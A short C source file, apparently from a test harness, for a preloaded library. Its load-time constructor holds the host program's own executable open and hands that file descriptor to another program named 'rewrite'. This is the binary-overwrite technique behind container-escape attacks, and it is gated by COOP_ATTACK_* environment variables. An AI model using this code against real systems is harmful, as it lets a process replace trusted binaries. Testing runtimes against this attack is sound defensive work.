/* A library that is loaded into a program, keeps that program's file open, and lets another program write it. For those
 * whose name is COOP_ATTACK_ON; COOP_ATTACK_NEXT is the program of attacks, COOP_ATTACK_SAYS where it says its code. */

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void __attribute__((constructor)) begin(void)
{
	char to[512] = "", command[2048];
	const char *on = getenv("COOP_ATTACK_ON"), *next = getenv("COOP_ATTACK_NEXT"), *says = getenv("COOP_ATTACK_SAYS");
	if (!on || !next || !says || readlink("/proc/self/exe", to, sizeof to - 1) < 0 || !strstr(to, on))
		return;
	int fd = open("/proc/self/exe", O_RDONLY);
	unsetenv("LD_PRELOAD");
	snprintf(command, sizeof command, "'%s' rewrite %d > '%s.said' 2>&1; echo $? > '%s.new' && mv '%s.new' '%s'",
		 next, fd, says, says, says, says);
	execl("/bin/sh", "sh", "-c", command, (char *)NULL);
	_exit(127);
}
